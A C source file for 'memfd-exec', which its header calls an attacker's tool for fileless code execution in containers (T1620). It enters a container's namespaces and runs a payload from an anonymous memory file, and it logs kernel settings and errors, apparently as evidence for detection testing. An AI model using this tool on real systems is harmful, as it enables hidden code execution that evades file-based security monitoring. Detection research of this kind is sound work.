/*
 * memfd-exec: the attacker's tool for the memfd-exec techniques. Runs a
 * program inside a running container from an anonymous memory file, so the
 * code never exists in any file system the container (or the node) has
 * mounted: T1620 Reflective Code Loading.
 *
 * By default (memfd-exec, root on the node bringing the code):
 * 1. copies a program of the node (the attacker's payload carrier, here
 *    busybox) into a memfd (memfd_create(2)) while still in the node;
 * 2. enters the container's namespaces with setns(2) (ipc, uts, net, pid,
 *    mnt), the caller having joined its cgroups already, so the kernel sees a
 *    process of the container, as an interpreter in the image calling
 *    os.memfd_create would be;
 * 3. forks (a pid namespace applies to children) and the child runs the
 *    memfd with fexecve(3), which glibc implements as execveat(fd, "", argv,
 *    envp, AT_EMPTY_PATH) (sysdeps/unix/sysv/linux/fexecve.c).
 *
 * With --inside (memfd-exec-inside, a process of the container making its
 * own memory file, as an exploited program in the image would): only the
 * program is opened in the node (the bytes an attacker would have
 * downloaded); the child, already in the container's namespaces, asks for
 * an executable memfd (MFD_EXEC, Linux 6.3), then for a plain one when that
 * is refused, copies the bytes in and runs it with execve("/proc/self/fd/N"),
 * not execveat. It says on stderr, for the evidence, what vm.memfd_noexec
 * reads in the container's pid namespace, each memfd_create refusal, the
 * memfd's mode and seals, and the error execve got; a refused execve exits
 * 126.
 *
 * The parent waits and exits with the child's status.
 *
 * usage: memfd-exec [--inside] <container pid> <program on the node> <argv0> [args...]
 * Build: gcc -static -O2 -o memfd-exec memfd-exec.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "enter-container.h"

#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U
#endif
#ifndef F_SEAL_EXEC
#define F_SEAL_EXEC 0x0020
#endif

extern char **environ;

/* Copies all of src (st_size bytes) into mem; 0 on success. */
static int copy_into(int mem, int src, off_t size) {
  for (off_t done = 0; done < size;) {
    ssize_t n = sendfile(mem, src, NULL, (size_t)(size - done));
    if (n <= 0) {
      perror("sendfile");
      return -1;
    }
    done += n;
  }
  return 0;
}

/* --inside, in the container's pid namespace: make the memfd here, then execve it by its /proc path. */
static int run_inside(int src, off_t size, char **args) {
  char value[16] = {0};
  int sysctl = open("/proc/sys/vm/memfd_noexec", O_RDONLY | O_CLOEXEC);
  if (sysctl >= 0 && read(sysctl, value, sizeof value - 1) > 0) value[strcspn(value, "\n")] = '\0';
  else strcpy(value, "absent");
  fprintf(stderr, "memfd-exec: vm.memfd_noexec in the container's pid namespace: %s\n", value);
  int mem = memfd_create("payload", MFD_EXEC);
  if (mem < 0) {
    fprintf(stderr, "memfd-exec: memfd_create(MFD_EXEC): %s\n", strerror(errno));
    mem = memfd_create("payload", 0);
  }
  if (mem < 0) {
    perror("memfd-exec: memfd_create");
    return 1;
  }
  if (copy_into(mem, src, size) != 0) return 1;
  struct stat st;
  int seals = fcntl(mem, F_GET_SEALS);
  if (fstat(mem, &st) == 0) fprintf(stderr, "memfd-exec: memfd mode %04o, seals 0x%x%s\n", st.st_mode & 07777, seals, seals >= 0 && (seals & F_SEAL_EXEC) ? " (F_SEAL_EXEC)" : "");
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", mem);
  execve(path, args, environ);
  fprintf(stderr, "memfd-exec: execve %s: %s\n", path, strerror(errno));
  return 126;
}

struct job {
  int inside;
  int src;
  off_t size;
  int mem;
  char **args;
};

/* In the child, in the container's pid namespace: run the memfd made on the node (fexecve), or make one here (--inside). */
static int run(void *arg) {
  struct job *job = arg;
  if (job->inside) return run_inside(job->src, job->size, job->args);
  fexecve(job->mem, job->args, environ);
  perror("fexecve");
  return 127;
}

int main(int argc, char **argv) {
  int inside = argc > 1 && strcmp(argv[1], "--inside") == 0;
  if (inside) {
    argv++;
    argc--;
  }
  if (argc < 4) {
    fprintf(stderr, "usage: memfd-exec [--inside] <container pid> <program on the node> <argv0> [args...]\n");
    return 2;
  }
  const char *pid = argv[1];
  int src = open(argv[2], O_RDONLY | O_CLOEXEC);
  if (src < 0) {
    perror(argv[2]);
    return 1;
  }
  struct stat st;
  if (fstat(src, &st) != 0) {
    perror("fstat");
    return 1;
  }
  int mem = -1;
  if (!inside) {
    mem = memfd_create("payload", MFD_CLOEXEC);
    if (mem < 0) {
      perror("memfd_create");
      return 1;
    }
    if (copy_into(mem, src, st.st_size) != 0) return 1;
    close(src);
  }

  if (enter_container("memfd-exec", pid) != 0) return 1;
  struct job job = {inside, src, st.st_size, mem, argv + 3};
  return in_child("memfd-exec", run, &job);
}
